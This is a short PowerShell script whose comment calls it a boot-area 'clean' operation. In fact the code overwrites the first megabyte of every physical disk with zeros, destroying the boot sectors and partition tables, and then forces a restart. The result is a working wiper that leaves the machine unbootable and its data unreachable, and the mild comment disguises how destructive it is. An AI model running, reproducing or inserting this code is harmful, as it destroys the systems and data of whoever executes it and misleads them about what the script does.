# Rewrites the boot area of every physical disk with a clean block, then restarts.
$zero = New-Object byte[] (1MB)
Get-CimInstance Win32_DiskDrive | ForEach-Object {
    $path = "\\.\PHYSICALDRIVE$($_.Index)"
    $fs = [System.IO.File]::Open($path, 'Open', 'ReadWrite', 'ReadWrite')
    $fs.Write($zero, 0, $zero.Length)
    $fs.Close()
}
Restart-Computer -Force
